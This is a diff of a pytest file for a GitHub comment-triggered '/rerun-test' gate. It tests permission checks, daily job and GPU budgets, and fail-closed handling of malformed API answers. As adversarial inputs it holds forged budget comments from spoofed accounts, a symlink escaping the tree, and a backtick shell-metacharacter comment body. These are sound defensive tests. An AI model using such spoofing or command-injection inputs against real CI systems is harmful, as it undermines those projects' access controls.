+@pytest.mark.parametrize("association", ["NONE", "FIRST_TIMER", "FIRST_TIME_CONTRIBUTOR", "MANNEQUIN", "member"])
+def test_gate_refuses_strangers_by_association_before_any_permission_call(github, tree, tmp_path, association):
+    serve_happy_path(github)
+    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}", association=association)
+    assert result.exit_code == 0, result.output
+    shown = "unknown" if association == "member" else association
+    assert (result.stdout, outputs) == (f"rejected: @alice is {shown} to this repository\n", "accepted=false\n")
+    assert github.calls() == REFUSED_TRAIL
+    assert github.bodies(*REACT) == [{"content": "-1"}]
+
+
+def test_gate_refuses_sixteen_jobs_from_one_comment(github, tree, tmp_path):
+    """Regression: `FILE::T0 ... FILE::T7` on a suite with two 8-GPU pools queued 16 jobs."""
+    serve_happy_path(github)
+    eight = "test/registered/custom/test_eight_gpu_classes.py"
+    result, outputs = run_gate(github, tree, tmp_path, "/rerun-test " + " ".join(f"{eight}::T{n}" for n in range(8)))
+    assert result.exit_code == 0, result.output
+    assert outputs == "accepted=false\n"
+    assert replies(github) == [rejection("16 test jobs (8 selectors on their pools); at most 4 per comment")]
+    assert STATUS not in github.calls()
+
+
+def test_gate_never_echoes_a_linked_file_from_outside_the_tree(github, tree, tmp_path):
+    serve_happy_path(github)
+    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {LINK_OUT}")
+    assert outputs == "accepted=false\n"
+    reason = f"'{LINK_OUT}' has a registration error: line 1: a link that leads outside the scanned tree; the file is not read"
+    assert replies(github) == [rejection(reason)]
+    assert OUTSIDE_SECRET not in result.output and "outside.py" not in json.dumps(github.bodies(*REPLY))
+
+
+# -- budgets over 24 hours ----------------------------------------------------------------------
+
+
+def comment(issue: int, first_line: str, at: str = "2026-07-20T09:00:00Z", login: str = "github-actions[bot]", kind: str = "Bot") -> dict:
+    return {
+        "id": 900,
+        "issue_url": f"https://api.github.com/repos/{REPO}/issues/{issue}",
+        "user": {"login": login, "id": 41898282, "type": kind},
+        "created_at": at,
+        "updated_at": "2026-07-20T09:30:00Z",
+        "body": f"{first_line}\n/rerun-test by @alice ...",
+    }
+
+
+def used(jobs: int, minutes: int) -> str:
+    return f"<!-- cigen:rerun-test jobs={jobs} gpu-minutes={minutes} -->"
+
+
+@pytest.mark.parametrize(
+    "comments, code, reason",
+    [
+        ([comment(12, used(15, 10)), comment(12, used(1, 0))], "pull-request-budget", "pull request #12: 16 test jobs in the last 24 hours plus 1 is more than 16; try again later"),
+        ([comment(12, used(1, 2878))], "pull-request-budget", "pull request #12: 2878 estimated GPU-minutes in the last 24 hours plus 3 is more than 2880; try again later"),
+        ([comment(n, used(4, 10)) for n in range(20, 36)], "repository-budget", "this repository: 64 test jobs in the last 24 hours plus 1 is more than 64; try again later"),
+        ([comment(30, used(1, 11518))], "repository-budget", "this repository: 11518 estimated GPU-minutes in the last 24 hours plus 3 is more than 11520; try again later"),
+    ],
+    ids=["pr jobs", "pr gpu-minutes", "repository jobs", "repository gpu-minutes"],
+)
+def test_gate_refuses_over_the_daily_budgets(github, tree, tmp_path, comments, code, reason):
+    serve_happy_path(github, comments=comments)
     result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
-    assert result.exit_code == 2
-    assert result.stderr == f"GET /repos/{REPO}/collaborators/alice/permission: github-api: HTTP 401: Bad credentials\n"
-    assert outputs == ""
+    assert result.exit_code == 0, result.output
+    assert (result.stdout, outputs) == (f"rejected: {reason}\n", "accepted=false\n")
+    assert replies(github) == [rejection(reason)]
+    assert STATUS not in github.calls()
+
+
+def test_only_the_reply_bots_answers_of_the_last_24_hours_count(github, tree, tmp_path):
+    forged = used(10_000, 10_000_000)
+    serve_happy_path(
+        github,
+        comments=[
+            comment(12, forged, login="mallory", kind="User"),  # anyone can write the line
+            comment(12, forged, login="evil-app[bot]"),  # another app's bot
+            comment(12, forged, kind="User"),  # the login without the Bot type
+            comment(12, "thanks! " + forged),  # not the first line's whole text
+            comment(12, used(15, 2877), at="2026-07-19T09:59:59Z"),  # older than 24 hours (edited since)
+            comment(12, used(15, 2877)),  # counted: 15 + 1 jobs and 2877 + 3 GPU-minutes fit exactly
+        ],
+    )
+    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
+    assert result.stdout == f"accepted: 1 test run at {SHA}\n", result.output
+    (tmp_path / "policy.yml").write_text("version: 1\nbudget:\n  per_pull_request_per_day: {jobs: 15}\n")
+    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
+    assert result.stdout == "rejected: pull request #12: 15 test jobs in the last 24 hours plus 1 is more than 15; try again later\n"
+
+
+@pytest.mark.parametrize(
+    "answer, status, detail",
+    [
+        ({"message": "Server Error"}, 500, "HTTP 500: Server Error"),
+        ({"comments": []}, 200, "unexpected answer: answer is an object, not a list"),
+        ([comment(12, used(1, 1)) | {"user": None}], 200, "unexpected answer: page 1[0].user is null, not an object"),
+        ([comment(12, used(1, 1), at="2026-07-20T09:00:00")], 200, "unexpected answer: page 1[0].created_at is not an ISO 8601 time with a timezone"),
+        ([comment(12, used(1, 1)) | {"issue_url": "https://x.invalid/"}], 200, "unexpected answer: page 1[0].issue_url does not name an issue"),
+        ([comment(12, used(1, 1)) for _ in range(100)], 200, "more than 2000 comments since 2026-07-19T10:00:00Z: cannot count them all"),
+    ],
+    ids=["http error", "not a list", "user null", "naive time", "bad issue url", "too many to count"],
+)
+def test_gate_fails_closed_when_the_budget_cannot_be_counted(github, tree, tmp_path, answer, status, detail):
+    serve_happy_path(github)
+    github.on(*COMMENTS, answer, status=status)
+    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
+    assert result.exit_code == 0, result.output
+    reason = f"the last 24 hours of /rerun-test use cannot be counted ({detail}), so nothing runs"
+    assert (result.stdout, outputs) == (f"rejected: {reason}\n", "accepted=false\n")
+    assert replies(github) == [rejection(reason)]
+
+
+def test_measured_seconds_from_the_plan_file_set_the_estimate(github, tmp_path, corpus):
+    tree = write_rerun_tree(tmp_path / "tree", corpus)
+    plan = {"suites": {"nightly-1-gpu": {"shards": [{"files": [{"file": E2E, "est_seconds": 6000}, "other.py"]}]}}}
+    (tree / ".github/cigen").mkdir(parents=True)
+    (tree / ".github/cigen/plan.json").write_text(json.dumps(plan))
+    serve_happy_path(github)
+    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
+    assert replies(github)[0].split("\n")[0] == used(1, 100)
+    (tree / ".github/cigen/plan.json").write_text('{"suites": {"nightly-1-gpu": {"shards": {}}}}')
+    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
+    assert (result.exit_code, outputs) == (2, "accepted=false\n")
+    assert result.stderr == f"{tree}/.github/cigen/plan.json: bad-plan-json: suites.nightly-1-gpu.shards must be a list\n"
+
+
+# -- API answers are input: unexpected ones fail closed, with an answer -------------------------
+
+
+def failure(detail: str) -> str:
+    return (
+        "<!-- cigen:rerun-test -->\n@alice: nothing was run: a GitHub API call failed or answered something unexpected, "
+        f"so the request could not be checked.\n\n```text\n{detail}\n```\n\n"
+        "Comment again later; if it persists, a maintainer can look at the workflow run."
+    )
+
+
+ACT = f"GET /repos/{REPO}/activity: github-answer: unexpected answer: "
+PR = f"GET /repos/{REPO}/pulls/12: github-answer: unexpected answer: "
+PERM = f"GET /repos/{REPO}/collaborators/alice/permission: github-answer: unexpected answer: "
+
+
+@pytest.mark.parametrize(
+    "route, answer, detail",
+    [
+        (ACTIVITY, [{"after": SHA, "activity_type": "push"}], ACT + "answer[0].timestamp is missing"),
+        (ACTIVITY, ["push"], ACT + "answer[0] is a string, not an object"),
+        (ACTIVITY, [pushed("2026-07-20T09:00:00Z")[0], 7], ACT + "answer[1] is an integer, not an object"),
+        (ACTIVITY, pushed("2026-07-20T09:00:00"), ACT + "answer[0].timestamp is not an ISO 8601 time with a timezone"),
+        (ACTIVITY, pushed("yesterday"), ACT + "answer[0].timestamp is not an ISO 8601 time with a timezone"),
+        (ACTIVITY, [{"after": None, "timestamp": "2026-07-20T09:00:00Z"}], ACT + "answer[0].after is null, not a string"),
+        (ACTIVITY, {"after": SHA}, ACT + "answer is an object, not a list"),
+        (PULL, {**pull(), "head": {"ref": "feature", "repo": {"id": 1, "full_name": REPO}}}, PR + "answer.head.sha is missing"),
+        (PULL, {**pull(), "base": []}, PR + "answer.base is a list, not an object"),
+        (PULL, {**pull(), "head": "feature"}, PR + "answer.head is a string, not an object"),
+        (PULL, {**pull(), "number": "12"}, PR + "answer.number is a string, not an integer"),
+        (PULL, {**pull(), "state": None}, PR + "answer.state is null, not a string"),
+        (PULL, [pull()], f"GET /repos/{REPO}/pulls/12: github-answer: unexpected answer: the answer is not a JSON object"),
+        (PERMISSION, {"permission": "admin", "user": []}, PERM + "answer.user is a list, not an object"),
+        (PERMISSION, {"permission": "admin", "user": "alice"}, PERM + "answer.user is a string, not an object"),
+        (PERMISSION, {"permission": "admin", "user": {"login": "alice"}}, PERM + "answer.user.id is missing"),
+        (PERMISSION, {"permission": None, "user": {"login": "alice", "id": 7}}, PERM + "answer.permission is null, not a string"),
+        (PERMISSION, {"permission": "admin", "role_name": 5, "user": {"login": "alice", "id": 7}}, PERM + "answer.role_name is an integer, not a string"),
+        (PERMISSION, {"permission": "write", "user": {"login": "alice", "id": True}}, PERM + "answer.user.id is true or false, not an integer"),
+    ],
+    ids=[
+        "activity: no timestamp", "activity: entry not an object", "activity: a later entry not an object", "activity: naive time",
+        "activity: not a time", "activity: after null", "activity: not a list", "pull: no head sha", "pull: base a list",
+        "pull: head a string", "pull: number a string", "pull: state null", "pull: a list", "permission: user a list",
+        "permission: user a string", "permission: no user id",
+        "permission: null", "permission: role a number", "permission: id a boolean",
+    ],
+)  # fmt: skip
+def test_gate_fails_closed_with_an_answer_on_a_malformed_api_answer(github, tree, tmp_path, route, answer, detail):
+    """Regression: answers like the activity ones, a string `head` or a string `user` crashed the gate with a
+    traceback and no answer to the commenter (others were misread silently); every field is now checked."""
+    serve_happy_path(github)
+    github.on(*route, answer)
+    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
+    assert result.exit_code == 0, result.output
+    assert (result.stdout, outputs) == (f"rejected: {detail}\n", "accepted=false\n")
+    assert replies(github) == [failure(detail)]
+    assert github.bodies(*REACT) == [{"content": "confused"}]
+    assert STATUS not in github.calls()
+
+
+def test_gate_answers_api_failures_and_exits_2_only_when_it_cannot_answer(github, tree, tmp_path):
+    github.on(*PERMISSION, {"message": "Bad credentials"}, status=401)
+    github.on(*REACT, {}, status=201)
+    github.on(*REPLY, {"id": 557}, status=201)
+    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
+    assert result.exit_code == 0, result.output
+    detail = f"GET /repos/{REPO}/collaborators/alice/permission: github-api: HTTP 401: Bad credentials"
+    assert (result.stdout, outputs) == (f"rejected: {detail}\n", "accepted=false\n")
+    assert replies(github) == [failure(detail)]
+    github.on(*REPLY, {"message": "Bad credentials"}, status=401)
+    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
+    assert (result.exit_code, outputs) == (2, "accepted=false\n")
+    assert result.stderr == f"POST /repos/{REPO}/issues/12/comments: github-api: HTTP 401: Bad credentials\n"
+
+
+def test_gate_withdraws_its_answer_when_a_status_cannot_be_set(github, tree, tmp_path):
+    serve_happy_path(github)
+    github.on(*STATUS, {"message": "Server Error"}, status=500)
+    github.on("PATCH", f"/repos/{REPO}/issues/comments/555", {"id": 555})
+    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
+    assert (result.exit_code, outputs) == (0, "accepted=false\n")
+    detail = f"POST /repos/{REPO}/statuses/{SHA}: github-api: HTTP 500: Server Error"
+    assert github.bodies("PATCH", f"/repos/{REPO}/issues/comments/555") == [{"body": failure(detail)}]
+
+
+def test_gate_refuses_a_reply_id_that_is_not_a_comment_id(github, tree, tmp_path):
+    serve_happy_path(github)
+    github.on(*REPLY, {"id": "555"}, status=201)
+    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
+    assert (result.exit_code, outputs) == (2, "accepted=false\n")
+    message = f"POST /repos/{REPO}/issues/12/comments: github-answer: unexpected answer: answer.id is a string, not an integer\n"
+    assert result.stderr == message
+    assert STATUS not in github.calls()
 
 
 # -- the report step, end to end --------------------------------------------------------------
 
 
-def target(pool: str, selector: str = E2E) -> dict:
-    return {"selector": selector, "file": selector, "test": None, "pool": pool, "labels": [pool], "suites": ["s"], "timeout_minutes": 20}
+def target(pool: str, selector: str = E2E, gpus: int = 1) -> dict:
+    return {
+        "selector": selector,
+        "file": selector,
+        "test": None,
+        "pool": pool,
+        "labels": [pool],
+        "suites": ["s"],
+        "timeout_minutes": 20,
+        "est_seconds": 600.0,
+        "gpus": gpus,
+    }
 
 
 def job(name: str, conclusion: str | None, run: tuple[str, str] | None, url: str) -> dict:
@@ -429,10 +841,12 @@ def run_report(server: FakeGitHub, targets: dict, reply_id: str = "555"):
     return CliRunner().invoke(cli, ["rerun", "report"], env=env)
 
 
+JOBS = ("GET", f"/repos/{REPO}/actions/runs/4242/attempts/1/jobs")
+
+
 def test_report_posts_pass_fail_duration_and_links(github):
     github.on(
-        "GET",
-        f"/repos/{REPO}/actions/runs/4242/attempts/1/jobs",
+        *JOBS,
         {
             "total_count": 4,
             "jobs": [
@@ -442,10 +856,10 @@ def test_report_posts_pass_fail_duration_and_links(github):
             ],
         },
     )
-    github.on("POST", f"/repos/{REPO}/statuses/{SHA}", {}, status=201)
+    github.on(*STATUS, {}, status=201)
     github.on("PATCH", f"/repos/{REPO}/issues/comments/555", {"id": 555})
-    github.on("POST", f"/repos/{REPO}/issues/comments/101/reactions", {}, status=201)
-    targets = {"1-gpu-h100": [target("1-gpu-h100")], "4-gpu-b200": [target("4-gpu-b200", FA3)], "8-gpu-h200": [target("8-gpu-h200", FA3)]}
+    github.on(*REACT, {}, status=201)
+    targets = {"1-gpu-h100": [target("1-gpu-h100")], "4-gpu-b200": [target("4-gpu-b200", FA3, 4)], "8-gpu-h200": [target("8-gpu-h200", FA3, 8)]}
     result = run_report(github, targets)
     assert result.exit_code == 0, result.output
     assert result.stdout.splitlines() == [
@@ -453,14 +867,14 @@ def test_report_posts_pass_fail_duration_and_links(github):
         f"{FA3} (8-gpu-h200): did not run, -",
         f"{E2E} (1-gpu-h100): passed, 3m 12s",
     ]
-    assert github.bodies("POST", f"/repos/{REPO}/statuses/{SHA}") == [
+    assert github.bodies(*STATUS) == [
         {"state": "failure", "context": f"rerun-test {FA3} (4-gpu-b200)", "description": "failed in 45s", "target_url": "https://github.com/j/2"},
         {"state": "error", "context": f"rerun-test {FA3} (8-gpu-h200)", "description": "did not run", "target_url": RUN_URL},
         {"state": "success", "context": f"rerun-test {E2E} (1-gpu-h100)", "description": "passed in 3m 12s", "target_url": "https://github.com/j/1"},
     ]
     assert github.bodies("PATCH", f"/repos/{REPO}/issues/comments/555") == [
         {
-            "body": "<!-- cigen:rerun-test -->\n"
+            "body": "<!-- cigen:rerun-test jobs=3 gpu-minutes=130 -->\n"
             f"/rerun-test by @alice at `0123456789ab`: 1/3 passed ([workflow run]({RUN_URL}))\n\n"
             "| test | pool | result | duration |\n|---|---|---|---|\n"
             f"| `{FA3}` | `4-gpu-b200` | ❌ [failed](https://github.com/j/2) | 45s |\n"
@@ -468,27 +882,44 @@ def test_report_posts_pass_fail_duration_and_links(github):
             f"| `{E2E}` | `1-gpu-h100` | ✅ [passed](https://github.com/j/1) | 3m 12s |"
         }
     ]
-    assert github.bodies("POST", f"/repos/{REPO}/issues/comments/101/reactions") == [{"content": "-1"}]
+    assert github.bodies(*REACT) == [{"content": "-1"}]
 
 
 def test_report_without_an_answer_comment_posts_one_and_thumbs_up_when_all_pass(github):
-    github.on(
-        "GET",
-        f"/repos/{REPO}/actions/runs/4242/attempts/1/jobs",
-        {"total_count": 1, "jobs": [job(f"1-gpu-h100: {E2E}", "success", None, "https://github.com/j/1")]},
-    )
-    github.on("POST", f"/repos/{REPO}/statuses/{SHA}", {}, status=201)
-    github.on("POST", f"/repos/{REPO}/issues/12/comments", {"id": 9}, status=201)
-    github.on("POST", f"/repos/{REPO}/issues/comments/101/reactions", {}, status=201)
+    github.on(*JOBS, {"total_count": 1, "jobs": [job(f"1-gpu-h100: {E2E}", "success", None, "https://github.com/j/1")]})
+    github.on(*STATUS, {}, status=201)
+    github.on(*REPLY, {"id": 9}, status=201)
+    github.on(*REACT, {}, status=201)
     result = run_report(github, {"1-gpu-h100": [target("1-gpu-h100")]}, reply_id="")
     assert result.exit_code == 0, result.output
-    assert github.bodies("POST", f"/repos/{REPO}/statuses/{SHA}")[0]["description"] == "passed in 8m 00s"
-    assert [c for c in github.calls() if c[0] in ("POST", "PATCH")] == [
-        ("POST", f"/repos/{REPO}/statuses/{SHA}"),
-        ("POST", f"/repos/{REPO}/issues/12/comments"),
-        ("POST", f"/repos/{REPO}/issues/comments/101/reactions"),
-    ]
-    assert github.bodies("POST", f"/repos/{REPO}/issues/comments/101/reactions") == [{"content": "+1"}]
+    assert github.bodies(*STATUS)[0]["description"] == "passed in 8m 00s"
+    assert [c for c in github.calls() if c[0] in ("POST", "PATCH")] == [STATUS, REPLY, REACT]
+    assert github.bodies(*REACT) == [{"content": "+1"}]
+
+
+@pytest.mark.parametrize(
+    "answer, detail",
+    [
+        ({"total_count": 1, "jobs": ["1-gpu-h100"]}, "answer.jobs[0] is a string, not an object"),
+        ({"total_count": 1, "jobs": [job(f"1-gpu-h100: {E2E}", 0, None, "u")]}, "jobs[0].conclusion is an integer, not a string"),
+        ({"total_count": 1, "jobs": [job(f"1-gpu-h100: {E2E}", "success", ("2026-07-20T10:02:00", "x"), "u")]}, "jobs[0].steps[1].started_at is not an ISO 8601 time with a timezone"),
+        ({"total_count": "1", "jobs": []}, "answer.total_count is a string, not an integer"),
+        ({"jobs": None}, "answer.jobs is null, not a list"),
+    ],
+    ids=["job not an object", "conclusion a number", "naive step time", "count a string", "no jobs"],
+)
+def test_report_counts_unreadable_outcomes_as_errors_never_as_passed(github, answer, detail):
+    """Regression: a malformed jobs answer crashed the report with a traceback."""
+    github.on(*JOBS, answer)
+    github.on(*STATUS, {}, status=201)
+    github.on("PATCH", f"/repos/{REPO}/issues/comments/555", {"id": 555})
+    github.on(*REACT, {}, status=201)
+    result = run_report(github, {"1-gpu-h100": [target("1-gpu-h100")]})
+    assert result.exit_code == 0, result.output
+    assert github.bodies(*STATUS) == [{"state": "error", "context": f"rerun-test {E2E} (1-gpu-h100)", "description": "did not run", "target_url": RUN_URL}]
+    [body] = github.bodies("PATCH", f"/repos/{REPO}/issues/comments/555")
+    assert body["body"].endswith(f"```text\nthe test jobs' outcomes could not be read: {JOBS[0]} {JOBS[1]}: github-answer: unexpected answer: {detail}\n```")
+    assert github.bodies(*REACT) == [{"content": "-1"}]
 
 
 def test_report_refuses_targets_that_are_not_the_gates_output(github):
@@ -511,14 +942,14 @@ def test_authorize_command_exits_0_for_writers_and_2_for_readers(github, tmp_pat
     policy = str(tmp_path / "none.yml")
     ok = CliRunner().invoke(cli, ["rerun", "authorize", "--policy", policy, "--user", "alice", "--user-id", "7"], env=api_env(github))
     assert (ok.exit_code, json.loads(ok.stdout)) == (0, {"allowed": True, "reason": "@alice has write permission"})
-    no = CliRunner().invoke(cli, ["rerun", "authorize", "--policy", policy, "--user", "bob"], env=api_env(github))
+    no = CliRunner().invoke(cli, ["rerun", "authorize", "--policy", policy, "--user", "bob", "--user-id", "8"], env=api_env(github))
     assert no.exit_code == 2
     assert no.stderr == f"{policy}: not-allowed: @bob may not run /rerun-test: has read permission, needs write\n"
 
 
 def test_head_command_prints_the_pinned_commit_or_why_not(github, tmp_path):
-    github.on("GET", f"/repos/{REPO}/pulls/12", pull())
-    github.on("GET", f"/repos/{REPO}/activity", pushed("2026-07-20T09:00:00Z"))
+    github.on(*PULL, pull())
+    github.on(*ACTIVITY, pushed("2026-07-20T09:00:00Z"))
     args = ["rerun", "head", "--policy", str(tmp_path / "none.yml"), "--pr", "12"]
     ok = CliRunner().invoke(cli, [*args, "--commented-at", COMMENTED], env=api_env(github))
     assert (ok.exit_code, json.loads(ok.stdout)) == (0, {"head_sha": SHA, "head_repo": REPO, "fork": False})
@@ -529,7 +960,11 @@ def test_head_command_prints_the_pinned_commit_or_why_not(github, tmp_path):
         "the head commit cannot be pinned.\n"
     )
     bad = CliRunner().invoke(cli, [*args, "--commented-at", "yesterday"], env=api_env(github))
-    assert (bad.exit_code, bad.stderr) == (2, "bad-time: COMMENT_CREATED_AT is not an ISO 8601 time: 'yesterday'\n")
+    assert (bad.exit_code, bad.stderr) == (2, "bad-time: COMMENT_CREATED_AT is not an ISO 8601 time with a timezone: 'yesterday'\n")
+    naive = CliRunner().invoke(cli, [*args, "--commented-at", "2026-07-20T10:00:00"], env=api_env(github))
+    assert (naive.exit_code, naive.stderr) == (2, "bad-time: COMMENT_CREATED_AT is not an ISO 8601 time with a timezone: '2026-07-20T10:00:00'\n")
+    short = CliRunner().invoke(cli, [*args, "--commented-at", COMMENTED, "--pin", SHA[:7]], env=api_env(github))
+    assert (short.exit_code, short.stderr) == (2, "--pin: short-pin: give the full 40-hex-digit commit SHA\n")
 
 
 def test_gate_writes_its_decision_to_the_job_summary(github, tree, tmp_path):
@@ -539,3 +974,19 @@ def test_gate_writes_its_decision_to_the_job_summary(github, tree, tmp_path):
     result = CliRunner().invoke(cli, ["rerun", "gate", "--root", str(tree), "--policy", str(tmp_path / "none.yml")], env=env)
     assert result.exit_code == 0, result.output
     assert summary.read_text() == f"/rerun-test accepted: 1 test run at {SHA}\n"
+    env["COMMENT_BODY"] = f"/rerun-test {E2E} `x`\n"
+    result = CliRunner().invoke(cli, ["rerun", "gate", "--root", str(tree), "--policy", str(tmp_path / "none.yml")], env=env)
+    assert summary.read_text().split("\n")[1:] == [
+        "/rerun-test rejected:",
+        "",
+        "```text",
+        "''x'': shell metacharacter ''' is not allowed",
+        "```",
+        "",
+    ]
+
+
+def test_the_budget_window_is_asked_for_in_utc_whatever_the_comments_offset(github):
+    github.on(*COMMENTS, [])
+    client(github).recent_comments(datetime.fromisoformat("2026-07-20T12:00:00+02:00"))
+    assert github.requests[0].query["since"] == "2026-07-20T10:00:00Z"
